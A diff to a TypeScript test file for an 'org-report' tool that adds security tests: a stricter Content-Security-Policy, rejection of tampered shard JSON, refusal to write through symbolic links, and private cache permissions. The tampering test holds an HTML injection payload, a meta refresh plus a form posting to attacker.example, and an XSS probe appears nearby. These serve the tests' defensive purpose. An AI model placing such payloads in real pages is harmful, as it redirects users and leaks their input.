@@ -140,7 +140,64 @@ describe('org-report (fake GitHub over real HTTP)', () => {
     assert.ok(html.includes('&lt;img src=x onerror=alert(1)&gt;'));
     assert.ok(!/<script|<img|onerror=|javascript:/i.test(html.replace(/&lt;[^&]*&gt;/g, '')));
     assert.ok(!/\b(src|href)=|url\(|@import/i.test(html.replace(/&lt;.*?&gt;/g, '')), 'no remote or linked content');
-    assert.match(html, /Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'"/);
+    assert.match(html, /Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'"/);
+  });
+
+  it('merge checks every field of a shard before merging: a tampered count is refused, nothing of it reaches the HTML (issue 18)', async () => {
+    assert.strictEqual((await orgReport('c1', '--out', 's', '--shard', '1/1')).code, 0);
+    const good = fs.readFileSync(path.join(dir, 's/org-report-1-of-1.json'), 'utf8');
+    const payload = '<meta http-equiv="refresh" content="0;url=http://attacker.example/"><form action="http://attacker.example/"><input name=x></form>';
+    const tamper = (edit: (r: OrgReport & Record<string, unknown>) => void) => {
+      const r = JSON.parse(good);
+      edit(r);
+      fs.writeFileSync(path.join(dir, 'bad.json'), JSON.stringify(r));
+      return cli('org-report', 'merge', 'bad.json', '--out', 'm');
+    };
+    const cases: [(r: OrgReport & Record<string, unknown>) => void, RegExp][] = [
+      [r => { (r.repositories[0].teams[0] as unknown as Record<string, unknown>).lines = payload; }, /bad\.json: repositories\[0\]\.teams\[0\]\.lines is not a whole number >= 0/],
+      [r => { (r.repositories[0] as unknown as Record<string, unknown>).pullRequests = 1e400; }, /repositories\[0\]\.pullRequests is not a whole number/],
+      [r => { (r.repositories[0].thresholds as unknown as Record<string, unknown>).leadShareThreshold = 'NaN'; }, /leadShareThreshold is not a number from 0 to 1/],
+      [r => { r.apiRequests = -1; }, /apiRequests is not a whole number >= 0/],
+      [r => { (r.window as unknown as Record<string, unknown>).since = payload; }, /window\.since is not a YYYY-MM-DD date/],
+      [r => { (r.repositories[0] as unknown as Record<string, unknown>).repo = payload; }, /repositories\[0\]\.repo is not OWNER\/NAME/],
+      [r => { r.repositories[0].teams[0].leadLines = r.repositories[0].teams[0].lines + 1; }, /lead's counts above the team's/],
+    ];
+    for (const [edit, message] of cases) {
+      const r = await tamper(edit);
+      assert.strictEqual(r.code, 2, r.err);
+      assert.match(r.err, message);
+      assert.ok(!fs.existsSync(path.join(dir, 'm/org-report.html')));
+    }
+    // Teams and leads in a shard are never read: the merge computes them again from the checked repositories.
+    const r = await tamper(x => { (x.teams[0] as unknown as Record<string, unknown>).pullRequests = payload; x.leads[0].lead = payload; });
+    assert.strictEqual(r.code, 0, r.err);
+    const html = fs.readFileSync(path.join(dir, 'm/org-report.html'), 'utf8');
+    assert.ok(!html.includes('<meta http-equiv="refresh"') && !html.includes('<form') && !html.includes('attacker.example'), html);
+  });
+
+  it('does not write the report through a symbolic link left in the output folder', async function () {
+    if (process.platform === 'win32') this.skip();
+    fs.mkdirSync(path.join(dir, 'o'));
+    const elsewhere = path.join(dir, 'elsewhere.html');
+    fs.symlinkSync(elsewhere, path.join(dir, 'o/org-report.html'));
+    const r = await orgReport('cache', '--out', 'o');
+    assert.strictEqual(r.code, 2, r.err);
+    assert.match(r.err, /org-report\.html is a symbolic link; it is not written through/);
+    assert.ok(!fs.existsSync(elsewhere));
+  });
+
+  it('keeps its cache (the OWNERS.yaml text of private repositories) readable by the user only: files 0600 in a 0700 folder', async function () {
+    if (process.platform === 'win32') this.skip();
+    const r = await orgReport('private-cache', '--out', 'o');
+    assert.strictEqual(r.code, 0, r.err);
+    const cache = path.join(dir, 'private-cache');
+    assert.strictEqual(fs.statSync(cache).mode & 0o777, 0o700);
+    const files = fs.readdirSync(cache, { recursive: true }).map(String).filter(f => fs.statSync(path.join(cache, f)).isFile());
+    assert.ok(files.some(f => f.endsWith('.owners.json')), files.join(', '));
+    for (const f of files) assert.strictEqual(fs.statSync(path.join(cache, f)).mode & 0o777, 0o600, f);
+    for (const d of fs.readdirSync(cache, { recursive: true }).map(String).filter(f => fs.statSync(path.join(cache, f)).isDirectory())) {
+      assert.strictEqual(fs.statSync(path.join(cache, d)).mode & 0o077, 0, d);
+    }
   });
 
   it('says what is wrong with bad usage (exit 2)', async () => {
